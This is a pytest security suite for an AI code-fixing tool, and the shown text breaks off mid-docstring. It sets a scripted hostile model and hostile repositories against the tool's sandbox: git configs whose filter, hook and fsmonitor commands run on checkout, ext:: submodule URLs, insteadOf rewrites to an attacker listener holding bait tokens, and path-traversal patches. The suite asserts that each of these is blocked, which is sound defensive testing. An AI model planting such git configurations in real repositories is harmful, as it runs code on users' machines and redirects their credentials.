"""The adversarial suite: a hostile repository and a hostile (or prompt-injected) model.

Every case runs the real CLI (or the real host-side code path) against a real sandbox, with
a scripted model that does what an attacker would, and asserts the exact outcome: the
mission is not verified and says why, the user's working tree is byte-for-byte unchanged,
no marker file appears outside the tree, and no token reaches a listener of the test's own.
Each case names the SECURITY.md check it covers.
"""

from __future__ import annotations

import hashlib
import os
import re
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import init_repo, step, tool
from tests.integration.test_fix_cli import EDIT, FIX_NEW, FIX_OLD, PLAN, model_env

FINISH = tool("finish", summary="done")
CHECK = tool("run_command", command="python -m pytest -q")


def tree_digest(root: Path) -> dict[str, str]:
    """Every file under `root` (the `.git` directory included) with its sha256: two equal
    digests mean the tree is byte-for-byte the same."""
    digest: dict[str, str] = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            digest[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            digest[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


def hostile_session(*calls: dict[str, Any], fix: bool = False) -> list[dict[str, Any]]:
    """A scripted session: plan, the hostile calls one per step, optionally the real fix,
    a test run, finish."""
    steps = [step(PLAN), *(step(call) for call in calls)]
    if fix:
        steps.append(step(EDIT))
    return [*steps, step(CHECK), step(FINISH)]


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


@pytest.fixture
def marker_dir(tmp_path: Path) -> Path:
    """A directory outside every tree a mission handles; nothing may appear in it."""
    where = tmp_path / "markers"
    where.mkdir()
    return where


__all__ = [
    "EDIT",
    "FIX_NEW",
    "FIX_OLD",
    "hostile_session",
    "init_repo",
    "model_env",
    "tree_digest",
    "write",
]


# ---- host git (SECURITY 35-36) ----
# A hostile repository, or a hostile model, configures git every way a tree can; each
# driver would touch a file in `marker_dir`. Host git (snapshot, local export, apply, the
# deliver-time `git diff --stat`, clone, commit and push) runs none of them, and the
# operation still works: the real fix is verified and delivered. Planted URL rewrites point
# at a git server of the test's own on 127.0.0.1 that demands credentials.


def hostgit_config(markers: Path) -> str:
    """Git configuration that runs a command through every setting that can run one."""
    return f"""[filter "evil"]
\tclean = touch {markers}/filter-clean; cat
\tsmudge = touch {markers}/filter-smudge; cat
\tprocess = touch {markers}/filter-process
\trequired = true
[diff "evil"]
\ttextconv = touch {markers}/diff-textconv; cat
\tcommand = touch {markers}/diff-command
[merge "evil"]
\tdriver = touch {markers}/merge-driver
[diff]
\texternal = touch {markers}/diff-external
[core]
\tpager = touch {markers}/core-pager
\tfsmonitor = touch {markers}/core-fsmonitor
\thooksPath = {markers}/../hostgit-hooks
"""


def hostgit_hooks(hooks: Path, markers: Path) -> None:
    hooks.mkdir(parents=True, exist_ok=True)
    for name in ("pre-commit", "post-commit", "post-checkout", "post-index-change",
                 "reference-transaction", "pre-push", "pre-auto-gc"):  # fmt: skip
        write(hooks / name, f"#!/bin/sh\ntouch {markers}/hook-{name}\n").chmod(0o755)


def hostgit_repo(example_repo: Any, markers: Path, files: dict[str, str]) -> Path:
    """The Python example carrying `files` (committed), with hooks ready in the shared
    hooks directory a planted `core.hooksPath` names and in the repository's own `.git`."""
    hostgit_hooks(markers.parent / "hostgit-hooks", markers)
    repo = example_repo("python-invoice", files)
    hostgit_hooks(repo / ".git" / "hooks", markers)
    assert list(markers.iterdir()) == []
    return repo


def hostgit_fix(run_cli: Any, scripted: Any, repo: Path, *calls: dict[str, Any],
                sandbox: str = "docker") -> Any:  # fmt: skip
    server = scripted(hostile_session(*calls, fix=True))
    return run_cli("fix", str(repo), "--sandbox", sandbox, env=model_env(server))


def hostgit_assert_delivered(run: Any, repo: Path, before: dict[str, str], markers: Path,
                             *extra_changed: str) -> None:  # fmt: skip
    """Verified and applied, only the fix (and what the patch itself adds) changed in the
    working tree, and not one driver or hook ran."""
    assert sorted(p.name for p in markers.iterdir()) == []
    assert run.exit_code == 0, run.stderr
    assert run.result["status"] == "verified", run.result["message"]
    assert run.result["applied"] is True
    assert FIX_NEW in (repo / "invoice/totals.py").read_text()
    after = tree_digest(repo)
    changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
    assert changed == {"invoice/totals.py", *extra_changed}
    deliver = [e for e in run.of_type("stage") if e["stage"] == "deliver"][-1]
    assert deliver["status"] == "applied"
    assert deliver["files"] and "changed" in deliver["files"][0]


@pytest.mark.docker
def test_repo_gitconfig_filter_clean_smudge_process_never_runs_on_host_security_35(
    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
) -> None:
    """SECURITY 35: `.gitconfig` filter drivers selected by `.gitattributes` (the HOME-in-
    the-tree attack) run neither at snapshot nor at deliver."""
    repo = hostgit_repo(example_repo, marker_dir, {
        ".gitconfig": hostgit_config(marker_dir),
        ".gitattributes": "* filter=evil\n",
    })  # fmt: skip
    before = tree_digest(repo)
    run = hostgit_fix(run_cli, scripted, repo)
    hostgit_assert_delivered(run, repo, before, marker_dir)


@pytest.mark.docker
def test_repo_xdg_config_textconv_and_external_diff_never_run_at_deliver_security_35(
    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
) -> None:
    """SECURITY 35: `.config/git/config` (the XDG location) with diff textconv/command,
    `diff.external` and a pager; `.gitattributes` selects the diff driver for the file the
    fix changes, so the deliver-time `git diff --stat` is where it would run."""
    repo = hostgit_repo(example_repo, marker_dir, {
        ".config/git/config": hostgit_config(marker_dir),
        ".gitattributes": "*.py diff=evil merge=evil\n",
    })  # fmt: skip
    before = tree_digest(repo)
    run = hostgit_fix(run_cli, scripted, repo)
    hostgit_assert_delivered(run, repo, before, marker_dir)


@pytest.mark.docker
def test_repo_include_path_and_includeif_are_never_followed_security_35(
    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
) -> None:
    """SECURITY 35: a `.gitconfig` whose `include.path` and `includeIf` pull the drivers
    from another file of the tree."""
    repo = hostgit_repo(example_repo, marker_dir, {
        ".gitconfig": '[include]\n\tpath = tools/git.cfg\n[includeIf "gitdir:/"]\n'
                      "\tpath = tools/git.cfg\n",
        "tools/git.cfg": hostgit_config(marker_dir),
        ".gitattributes": "* filter=evil diff=evil\n",
    })  # fmt: skip
    before = tree_digest(repo)
    run = hostgit_fix(run_cli, scripted, repo)
    hostgit_assert_delivered(run, repo, before, marker_dir)


@pytest.mark.docker
def test_fsmonitor_pager_and_hooks_in_the_repos_own_git_dir_never_run_security_35(
    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
) -> None:
    """SECURITY 35 (CVE-2022-24765 class): `core.fsmonitor`, `core.pager` and
    `core.hooksPath` in the repository's `.git/config`, hooks in `.git/hooks`; snapshot,
    apply and `git diff --stat` run in that repository and must run none of them."""
    repo = hostgit_repo(example_repo, marker_dir, {".gitattributes": "* filter=evil\n"})
    with (repo / ".git" / "config").open("a") as config:
        config.write(
            f"[core]\n\tfsmonitor = touch {marker_dir}/core-fsmonitor\n"
            f"\tpager = touch {marker_dir}/core-pager\n"
            f"\thooksPath = {marker_dir.parent}/hostgit-hooks\n"
        )
    before = tree_digest(repo)
    run = hostgit_fix(run_cli, scripted, repo)
    hostgit_assert_delivered(run, repo, before, marker_dir)


@pytest.mark.docker
def test_repo_gitmodules_with_ext_url_and_update_command_is_never_acted_on_security_35(
    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
) -> None:
    """SECURITY 35: `.gitmodules` naming an `ext::` URL and an `update = !command`, a
    gitlink in the index and an untracked nested repository with its own hostile config."""
    repo = hostgit_repo(example_repo, marker_dir, {
        ".gitmodules": '[submodule "vendor/lib"]\n\tpath = vendor/lib\n'
                       f"\turl = ext::sh -c touch% {marker_dir}/gitmodules-ext\n"
                       f"\tupdate = !touch {marker_dir}/gitmodules-update\n",
    })  # fmt: skip
    from tests.conftest import git

    head = git("rev-parse", "HEAD", cwd=repo).strip()
    # The test's own git: with the planted hooks off.
    gitlink = f"160000,{head},vendor/lib"
    git("-c", "core.hooksPath=/dev/null", "update-index", "--add", "--cacheinfo", gitlink, cwd=repo)
    nested = repo / "third_party" / "nested"
    write(nested / "lib.py", "y = 2\n")
    init_repo(nested)
    with (nested / ".git" / "config").open("a") as config:
        config.write(hostgit_config(marker_dir))
    write(nested / ".gitattributes", "* filter=evil diff=evil\n")
    hostgit_hooks(nested / ".git" / "hooks", marker_dir)
    before = tree_digest(repo)
    run = hostgit_fix(run_cli, scripted, repo)
    hostgit_assert_delivered(run, repo, before, marker_dir)
    assert "vendor/lib" not in run.result["patch"] and "third_party" not in run.result["patch"]


@pytest.mark.docker
def test_model_written_gitconfig_attributes_and_nested_repo_never_run_on_host_security_35(
    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
) -> None:
    """SECURITY 35: the model writes `.gitconfig`, `.config/git/config` and `.gitattributes`
    that define and select drivers, and nests repositories (one without commits) in the
    tree. The patch carries the files as content; applying it and the deliver-time
    `git diff --stat` run no driver, and nothing of the nested repositories is delivered."""
    repo = hostgit_repo(example_repo, marker_dir, {})
    config = hostgit_config(marker_dir)
    calls = (
        tool("write_file", path=".gitconfig", content=config),
        tool("write_file", path=".config/git/config", content=config),
        tool("write_file", path=".gitattributes", content="* filter=evil diff=evil merge=evil\n"),
        tool("run_command", command="git init -q vendor/empty && mkdir -p vendor/full && "
             "cd vendor/full && git init -q && echo x > x.txt && git add x.txt && "
             "git -c user.name=m -c user.email=m@m commit -qm x"),
    )  # fmt: skip
    before = tree_digest(repo)
    run = hostgit_fix(run_cli, scripted, repo, *calls)
    hostgit_assert_delivered(
        run, repo, before, marker_dir, ".gitconfig", ".config/git/config", ".gitattributes"
    )
    assert (repo / ".gitconfig").read_text() == config
    assert "vendor/" not in run.result["patch"] and not (repo / "vendor").exists()


def test_model_planted_drivers_in_its_git_dir_never_run_in_local_export_security_35(
    example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
) -> None:
    """SECURITY 35, local backend: the patch is exported by host git. The model defines
    filter, diff and fsmonitor commands in its workspace's `.git/config`, selects them in
    `.gitattributes`, and nests a repository whose config defines them too; the export
    reads none of that configuration."""
    repo = hostgit_repo(example_repo, marker_dir, {})
    m = marker_dir
    calls = (
        tool("run_command", command=f"git config filter.evil.clean 'touch {m}/filter-clean; cat'"
             f" && git config diff.evil.textconv 'touch {m}/textconv; cat'"
             f" && git config core.fsmonitor 'touch {m}/fsmonitor'"
             f" && git config core.hooksPath {m.parent}/hostgit-hooks"),
        tool("write_file", path=".gitattributes", content="* filter=evil diff=evil\n"),
        tool("run_command", command="git init -q nested && "
             f"git -C nested config core.fsmonitor 'touch {m}/nested-fsmonitor' && "
             "echo y > nested/y.txt"),
    )  # fmt: skip
    before = tree_digest(repo)
    run = hostgit_fix(run_cli, scripted, repo, *calls, sandbox="local")
    hostgit_assert_delivered(run, repo, before, marker_dir, ".gitattributes")
    assert "nested" not in run.result["patch"]


@pytest.mark.docker
def test_cli_clone_of_a_hostile_url_runs_no_smudge_and_follows_no_rewrite_security_35_36(
    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path,
    tmp_path: Path,
) -> None:  # fmt: skip
    """SECURITY 35/36: `loopwright fix URL` clones on the host. The repository carries a
    smudge filter and an `insteadOf` that rewrites the server's URL to a listener of the
    test's own; the clone checks out without running the filter, and the listener is
    never contacted."""
    from tests.fakes.git_server import GitServer

    (tmp_path / "srv").mkdir()
    (tmp_path / "evil").mkdir()
    with (
        GitServer(tmp_path / "srv") as server,
        GitServer(tmp_path / "evil", token="ghs_ATTACKERBAIT000000000000") as attacker,
    ):
        config = hostgit_config(marker_dir)
        config += f'[url "{attacker.url}/"]\n\tinsteadOf = {server.url}/\n'
        repo = hostgit_repo(example_repo, marker_dir, {
            ".gitconfig": config, ".config/git/config": config,
            ".gitattributes": "* filter=evil diff=evil\n",
        })  # fmt: skip
        server.create_repo("octo/invoice", repo)
        model = scripted(hostile_session(fix=True))
        run = run_cli("fix", server.repo_url("octo/invoice"), "--sandbox", "docker",
                      env=model_env(model))  # fmt: skip
        assert sorted(p.name for p in marker_dir.iterdir()) == []
        assert attacker.requests == []
        assert run.exit_code == 0, run.stderr
        assert run.result["status"] == "verified" and run.result["applied"] is False
        assert FIX_NEW.strip() in run.result["patch"]
        assert server.requests and server.requests[0]["path"] == "/octo/invoice.git/info/refs"


def hostgit_served(repo: Path, tmp_path: Path, token: str) -> Any:
    from tests.fakes.git_server import GitServer

    (tmp_path / "srv").mkdir()
    (tmp_path / "evil").mkdir()
    server = GitServer(tmp_path / "srv", token=token)
    attacker = GitServer(tmp_path / "evil", token="ghs_ATTACKERBAIT000000000000")
    server.create_repo("octo/app", repo)
    attacker.create_repo("octo/app", repo)
    return server, attacker


def test_app_delivery_ignores_tree_pushinsteadof_and_refuses_a_planted_one_security_36(
    example_repo: Any, marker_dir: Path, tmp_path: Path
) -> None:
    """SECURITY 35/36, the App's delivery (clone_at, commit_patch, push_branch): a
    `pushInsteadOf` and `insteadOf` in the repository's `.gitconfig` never redirect the push,
    drivers in it never run; the same rewrite planted in the clone's own `.git/config` is
    refused before any request. The attacker's listener never sees a token."""
    import base64

    from loopwright.github.gitops import GitError, clone_at, commit_patch, push_branch
    from tests.conftest import git

    token = "ghs_APPTOKEN0123456789abcdefghij"
    repo = hostgit_repo(example_repo, marker_dir, {".gitattributes": "* filter=evil diff=evil\n"})
    server, attacker = hostgit_served(repo, tmp_path, token)
    with server, attacker:
        config = hostgit_config(marker_dir) + (
            f'[url "{attacker.url}/"]\n\tpushInsteadOf = {server.url}/\n'
            f'[url "{attacker.url}/octo/"]\n\tinsteadOf = {server.url}/octo/\n'
        )
        write(repo / ".gitconfig", config)
        git("-c", "core.hooksPath=/dev/null", "add", "-A", cwd=repo)
        git("-c", "core.hooksPath=/dev/null", "commit", "-qm", "rewrites", cwd=repo)
        bare = server.root / "octo/app.git"
        git("-c", "core.hooksPath=/dev/null", "push", "-q", str(bare), "HEAD:refs/heads/main",
            cwd=repo)  # fmt: skip
        sha = git("rev-parse", "HEAD", cwd=repo).strip()
        url = server.repo_url("octo/app")
        totals = repo / "invoice/totals.py"
        original = totals.read_text()
        totals.write_text(original.replace(FIX_OLD, FIX_NEW))
        patch = git("diff", "--no-ext-diff", "--", "invoice/totals.py", cwd=repo)
        totals.write_text(original)
        tree = clone_at(url, sha, tmp_path / "clone", token)
        commit = commit_patch(tree, patch, "Fix discount", "m1")
        push_branch(tree, "loopwright/fix-1", token, replace=None, url=url)
        assert git("rev-parse", "loopwright/fix-1", cwd=bare).strip() == commit
        expected = "Basic " + base64.b64encode(f"x-access-token:{token}".encode()).decode()
        assert {r["authorization"] for r in server.requests} - {""} == {expected}

        second = clone_at(url, sha, tmp_path / "second", token)
        commit_patch(second, patch, "Fix discount", "m2")
        with (second / ".git" / "config").open("a") as planted:
            planted.write(f'[url "{attacker.url}/"]\n\tpushInsteadOf = {server.url}/\n')
        with pytest.raises(GitError, match=r"sets url\..*pushinsteadof in \.git/config") as err:
            push_branch(second, "loopwright/fix-2", token, replace=None, url=url)
        assert token not in str(err.value)
        assert attacker.requests == []
        assert sorted(p.name for p in marker_dir.iterdir()) == []


from tests.integration.test_action import REPO as HOSTGIT_ACTION_REPO  # noqa: E402
from tests.integration.test_action import example as hostgit_action_example  # noqa: E402
from tests.integration.test_action import world  # noqa: E402, F401


def test_action_commit_path_from_a_hostile_workspace_runs_nothing_sends_no_token_security_35_36(
    world: Any,  # noqa: F811 - the Action's world fixture, imported above
    marker_dir: Path,
) -> None:
    """SECURITY 35/36, Action mode (`deliver: commit`): the checked-out workspace carries
    drivers and an `insteadOf`/`pushInsteadOf` to a listener of the test's own in its
    `.gitconfig`, and fsmonitor plus hooks in its own `.git`. The snapshot of the workspace,
    the delivery clone, the commit and the push run none of them; the fix lands on the
    branch and the listener never hears from git."""
    from tests.conftest import git
    from tests.fakes.git_server import GitServer

    (world.tmp / "evil").mkdir()
    with GitServer(world.tmp / "evil", token="ghs_ATTACKERBAIT000000000000") as attacker:
        workspace = world.tmp / "checkout"
        git("clone", "-q", "-b", "feature", world.git.repo_url(HOSTGIT_ACTION_REPO),
            str(workspace), cwd=world.tmp)  # fmt: skip
        attacker.create_repo(HOSTGIT_ACTION_REPO, workspace)
        config = hostgit_config(marker_dir) + (
            f'[url "{attacker.url}/"]\n\tinsteadOf = {world.git.url}/\n'
            f'[url "{attacker.url}/acme/"]\n\tpushInsteadOf = {world.git.url}/acme/\n'
        )
        write(workspace / ".gitconfig", config)
        write(workspace / ".config/git/config", config)
        write(workspace / ".gitattributes", "* filter=evil diff=evil merge=evil\n")
        git("add", "-A", cwd=workspace)
        git("commit", "-qm", "hostile git configuration", cwd=workspace)
        git("push", "-q", "origin", "feature", cwd=workspace)
        sha = git("rev-parse", "HEAD", cwd=workspace).strip()
        hostgit_hooks(marker_dir.parent / "hostgit-hooks", marker_dir)
        hostgit_hooks(workspace / ".git" / "hooks", marker_dir)
        with (workspace / ".git" / "config").open("a") as own:
            own.write(f"[core]\n\tfsmonitor = touch {marker_dir}/core-fsmonitor\n")
        attacker.requests.clear()

        run = world.run(
            "workflow_dispatch",
            world.repository(hostgit_action_example("workflow_dispatch", None)),
            workspace=workspace,
            sha=sha,
            ref="refs/heads/feature",
            inputs={"INPUT_DELIVER": "commit", "INPUT_TEST_COMMAND": "python -m pytest -q"},
        )
        assert sorted(p.name for p in marker_dir.iterdir()) == []
        assert attacker.requests == []
        assert run.exit_code == 0, run.stderr
        assert run.outputs["status"] == "verified"
        pushed = git("show", "feature", "--format=%ae%n%P", cwd=world.bare)
        assert FIX_NEW.strip() in pushed and sha in pushed


# ---- host git, second pass (SECURITY 35-36) ----
# The user's own repository is a tree host git handles too: its `.git/config` (a tarball's,
# or one a setup script wrote) may define drivers, and its index and working tree may name
# files beyond a symlink or above the tree. Each driver would touch a file in `marker_dir`.


def redgit_user_repo(example_repo: Any, markers: Path, own_config: str) -> Path:
    """The Python example whose `.gitattributes` selects drivers for every file and whose
    own `.git/config` defines them (the repository's, not a file in the tree)."""
    repo = hostgit_repo(example_repo, markers, {
        ".gitattributes": "* filter=evil diff=evil merge=evil\n*.py filter=fmt\n",
        "tools/fmt.sh": "#!/bin/sh\ncat\n",
    })  # fmt: skip
    with (repo / ".git" / "config").open("a") as config:
        config.write(own_config)
    return repo


def test_drivers_in_the_user_repos_own_git_config_never_run_at_deliver_security_35(
    example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
) -> None:
    """SECURITY 35, CLI: the user's repository defines filter, diff and merge drivers in its
    own `.git/config`, selected by its `.gitattributes`. `git apply` on the working tree (a
    clean filter for every file it reads, a smudge for every file it writes) and the
    deliver-time summary would run them: neither reads that configuration."""
    repo = redgit_user_repo(example_repo, marker_dir, hostgit_config(marker_dir))
    before = tree_digest(repo)
    run = hostgit_fix(run_cli, scripted, repo, sandbox="local")
    hostgit_assert_delivered(run, repo, before, marker_dir)
    deliver = [e for e in run.of_type("stage") if e["stage"] == "deliver"][-1]
    assert deliver["files"] == [" 1 file changed, 1 insertion(+), 1 deletion(-)"]


def test_a_repo_filter_running_a_script_the_patch_rewrites_never_runs_security_35(
    example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
) -> None:
    """SECURITY 35, CLI: the user's `.git/config` runs `sh tools/fmt.sh` as a filter (a
    setup script's doing). The model rewrites that script; delivering the patch must not run
    the rewritten script on the host (model-written code as a host filter)."""
    own = '[filter "fmt"]\n\tclean = sh tools/fmt.sh\n\tsmudge = sh tools/fmt.sh\n'
    repo = redgit_user_repo(example_repo, marker_dir, own)
    script = f"#!/bin/sh\ntouch {marker_dir}/patched-filter-script\ncat\n"
    before = tree_digest(repo)
    run = hostgit_fix(
        run_cli, scripted, repo, tool("write_file", path="tools/fmt.sh", content=script),
        sandbox="local",
    )  # fmt: skip
    hostgit_assert_delivered(run, repo, before, marker_dir, "tools/fmt.sh")
    assert (repo / "tools/fmt.sh").read_text() == script


def redgit_index_entry(repo: Path, placeholder: str, name: str) -> None:
    """Rename the index entry `placeholder` to `name` (same length) in the raw index, as a
    tarball's or a tampered `.git` could carry: git itself refuses to add such a path."""
    import hashlib as _hashlib

    assert len(placeholder) == len(name)
    from tests.conftest import git

    git("add", placeholder, cwd=repo)
    raw = (repo / ".git" / "index").read_bytes()[:-20]
    assert raw.count(placeholder.encode()) == 1
    raw = raw.replace(placeholder.encode(), name.encode())
    (repo / ".git" / "index").write_bytes(raw + _hashlib.sha1(raw).digest())
    (repo / placeholder).unlink()


def test_snapshot_copies_nothing_through_a_symlinked_directory_security_35(
    tmp_path: Path,
) -> None:
    """SECURITY 35 (and 18): the index names `keys/id_rsa` while `keys` in the working tree
    is an ignored symlink to a directory outside it (a directory the user swapped for a
    link, or a tampered index). The snapshot the sandbox gets holds no file from there."""
    from loopwright.sandbox.workspace import git, snapshot

    outside = write(tmp_path / "home" / ".ssh" / "id_rsa", "CANARY-PRIVATE-KEY\n").parent
    repo = tmp_path / "user"
    write(repo / "app.py", "x = 1\n")
    write(repo / ".gitignore", "/keys\n")
    init_repo(repo)
    write(repo / "keys" / "id_rsa", "placeholder\n")
    from tests.conftest import git as test_git

    test_git("add", "-f", "keys/id_rsa", cwd=repo)
    (repo / "keys" / "id_rsa").unlink()
    (repo / "keys").rmdir()
    os.symlink(outside, repo / "keys")
    base = tmp_path / "base"
    snapshot(repo, base)
    assert not (base / "keys").exists()
    assert sorted(git(["ls-files"], base).split()) == [".gitignore", "app.py"]
    assert all("CANARY" not in p.read_text() for p in base.rglob("*") if p.is_file()
               and ".git" not in p.relative_to(base).parts)  # fmt: skip


def test_snapshot_never_follows_an_index_entry_above_the_tree_security_35(
    tmp_path: Path,
) -> None:
    """SECURITY 35: a tampered index names `../outside.txt`. The snapshot neither copies the
    file above the repository nor writes anything next to the snapshot."""
    from loopwright.sandbox.workspace import git, snapshot

    repo = tmp_path / "deep" / "user"
    write(repo / "app.py", "x = 1\n")
    init_repo(repo)
    write(tmp_path / "deep" / "outside.txt", "CANARY-ABOVE-THE-TREE\n")
    write(repo / "aa" / "outside.txt", "placeholder\n")
    redgit_index_entry(repo, "aa/outside.txt", "../outside.txt")
    base = tmp_path / "snap" / "base"
    snapshot(repo, base)
    assert not (tmp_path / "snap" / "outside.txt").exists()
    assert sorted(git(["ls-files"], base).split()) == ["app.py"]


REDGIT_TOKEN = "ghs_REDGITREDIRECTCANARY000000000"


def redgit_listener(kind: str, seen: list[tuple[str, str | None]], *, to: str = "",
                    auth_first: bool = False) -> Any:  # fmt: skip
    """A listener of the test's own on 127.0.0.1: the "origin" redirects every request to
    `to` (after asking for credentials first when `auth_first`); the "elsewhere" one asks
    for credentials and records what it gets."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            auth = self.headers.get("Authorization")
            seen.append((kind, auth))
            if kind == "elsewhere" or (auth_first and not auth):
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="git"')
            else:
                self.send_response(302)
                self.send_header("Location", to + self.path)
            self.send_header("Content-Length", "0")
            self.end_headers()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.mark.parametrize("auth_first", [False, True])
def test_a_redirect_from_the_computed_url_carries_no_token_elsewhere_security_36(
    tmp_path: Path, auth_first: bool
) -> None:
    """SECURITY 36: the server at the URL the host computed answers with a redirect to
    another listener (before or after it has seen the token). Git follows it, and the other
    listener never sees an Authorization header: the helper answers only for the computed
    URL, and the credentials never travel with the redirect."""
    from loopwright.github.gitops import GitError, remote_branch

    seen: list[tuple[str, str | None]] = []
    elsewhere = redgit_listener("elsewhere", seen)
    origin = redgit_listener(
        "origin", seen, to=f"http://127.0.0.1:{elsewhere.server_address[1]}",
        auth_first=auth_first,
    )  # fmt: skip
    try:
        tree = tmp_path / "tree"
        tree.mkdir()
        from tests.conftest import git as test_git

        test_git("init", "-q", cwd=tree)
        url = f"http://127.0.0.1:{origin.server_address[1]}/octo/app.git"
        with pytest.raises(GitError) as failed:
            remote_branch(tree, "loopwright/fix-1", "0" * 40, REDGIT_TOKEN, url=url)
    finally:
        origin.shutdown()
        elsewhere.shutdown()
    assert REDGIT_TOKEN not in str(failed.value)
    assert ("elsewhere", None) in seen
    assert all(auth is None for kind, auth in seen if kind == "elsewhere")
    sent = [auth for kind, auth in seen if kind == "origin" and auth]
    assert len(sent) == (1 if auth_first else 0)


def test_cli_clone_runs_nothing_the_source_repos_own_config_names_security_35(
    tmp_path: Path, marker_dir: Path
) -> None:
    """SECURITY 35: cloning a `file://` URL runs git-upload-pack on the host inside the
    source repository, which reads that repository's own `.git/config`. Its
    `uploadpack.packObjectsHook`, `core.alternateRefsCommand`, fsmonitor, hooks path and
    ssh command, and hooks in its `.git/hooks`, run nothing."""
    from loopwright.sandbox.workspace import clone

    source = tmp_path / "source"
    write(source / "app.py", "x = 1\n")
    init_repo(source)
    hostgit_hooks(source / ".git" / "hooks", marker_dir)
    hostgit_hooks(marker_dir.parent / "hostgit-hooks", marker_dir)
    with (source / ".git" / "config").open("a") as config:
        config.write(
            f"[uploadpack]\n\tpackObjectsHook = touch {marker_dir}/pack-objects-hook;\n"
            f"[core]\n\talternateRefsCommand = touch {marker_dir}/alternate-refs\n"
            f"\tfsmonitor = touch {marker_dir}/core-fsmonitor\n"
            f"\thooksPath = {marker_dir.parent}/hostgit-hooks\n"
            f"\tsshCommand = touch {marker_dir}/core-ssh\n"
        )
    copy = clone(f"file://{source}", tmp_path / "trees" / "clone")
    assert sorted(p.name for p in marker_dir.iterdir()) == []
    assert (copy / "app.py").read_text() == "x = 1\n"


def redgit_new(path: str, body: str = "planted", mode: str = "100644") -> str:
    tail = "\n\\ No newline at end of file\n" if mode == "120000" else "\n"
    return (
        f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n"
        f"+++ b/{path}\n@@ -0,0 +1 @@\n+{body}{tail}"
    )


REDGIT_OUT = "@OUT@"
REDGIT_PATCHES = {
    "through-a-committed-symlink": (redgit_new("link/new.txt"), "beyond a symbolic link"),
    "through-a-symlink-the-patch-makes": (
        redgit_new("s2", REDGIT_OUT, "120000") + redgit_new("s2/new.txt"),
        "beyond a symbolic link",
    ),
    "dotdot": (redgit_new("../outside/new.txt"), "invalid path"),
    "dotdot-in-the-middle": (redgit_new("a/../../outside/new.txt"), "invalid path"),
    "absolute": (redgit_new(f"{REDGIT_OUT}/abs.txt"), "invalid path"),
    "dot-git-trailing-dot": (redgit_new(".git./hooks/post-commit"), "invalid path"),
    "dot-git-trailing-space": (redgit_new(".git /hooks/post-commit"), "invalid path"),
    "ntfs-short-name": (redgit_new("git~1/hooks/post-commit"), "invalid path"),
    "ntfs-stream": (redgit_new(".git::$INDEX_ALLOCATION/hooks/post-commit"), "invalid path"),
    "gitmodules-symlink": (
        redgit_new(".gitmodules", f"{REDGIT_OUT}/v.txt", "120000"),
        "invalid path",
    ),
    "rename-out-of-the-tree": (
        "diff --git a/app.py b/../outside/moved.py\nsimilarity index 100%\n"
        "rename from app.py\nrename to ../outside/moved.py\n",
        "invalid path",
    ),
    "delete-through-a-committed-symlink": (
        "diff --git a/link/v.txt b/link/v.txt\ndeleted file mode 100644\n--- a/link/v.txt\n"
        "+++ /dev/null\n@@ -1 +0,0 @@\n-victim\n",
        "link/v.txt",
    ),
}


@pytest.mark.parametrize("name", sorted(REDGIT_PATCHES))
def test_a_patch_never_writes_outside_the_tree_or_into_git_security_35(
    tmp_path: Path, name: str
) -> None:
    """SECURITY 35 (and 18): a patch that reaches outside the tree (through a committed
    symlink or one it creates, with `..` or an absolute path, by renaming) or into a git
    directory by an alias (`.git.`, `.git `, `git~1`, an NTFS stream name, `.gitmodules`
    as a symlink) is refused as a whole: nothing outside changes, the tree is as it was."""
    from loopwright.sandbox.workspace import WorkspaceError, apply_patch

    outside = tmp_path / "outside"
    write(outside / "v.txt", "victim\n")
    tree = tmp_path / "tree"
    write(tree / "app.py", "x = 1\n")
    os.symlink(outside, tree / "link")
    init_repo(tree)
    before, outside_before = tree_digest(tree), tree_digest(outside)
    patch, reason = REDGIT_PATCHES[name]
    with pytest.raises(WorkspaceError, match=r"git apply failed: .*" + re.escape(reason)):
        apply_patch(tree, patch.replace(REDGIT_OUT, str(outside)))
    assert tree_digest(tree) == before
    assert tree_digest(outside) == outside_before


def redgit_worktree_config(tree: Path, rewrite: str) -> None:
    """The rewrite in `.git/config.worktree`, which git reads once the repository turns
    on `extensions.worktreeConfig`; `.git/config` itself names no routing setting."""
    from tests.conftest import git

    git("config", "core.repositoryformatversion", "1", cwd=tree)
    git("config", "extensions.worktreeConfig", "true", cwd=tree)
    write(tree / ".git" / "config.worktree", rewrite)


def redgit_gitdir_file(tree: Path, rewrite: str) -> None:
    """`.git` turned into a file that points git at the moved git directory, whose config
    carries the rewrite: there is no `.git/config` to look at."""
    moved = tree.parent / "moved-git-dir"
    (tree / ".git").rename(moved)
    with (moved / "config").open("a") as config:
        config.write(rewrite)
    write(tree / ".git", f"gitdir: {moved}\n")


@pytest.mark.parametrize("plant", [redgit_worktree_config, redgit_gitdir_file],
                         ids=["config-worktree", "gitdir-file"])  # fmt: skip
def test_a_rewrite_git_reads_from_outside_dot_git_config_is_refused_security_36(
    tmp_path: Path, plant: Any
) -> None:
    """SECURITY 36: a `pushInsteadOf` to a listener of the test's own, carried by a
    configuration file git reads besides `.git/config` (the worktree config, or the config
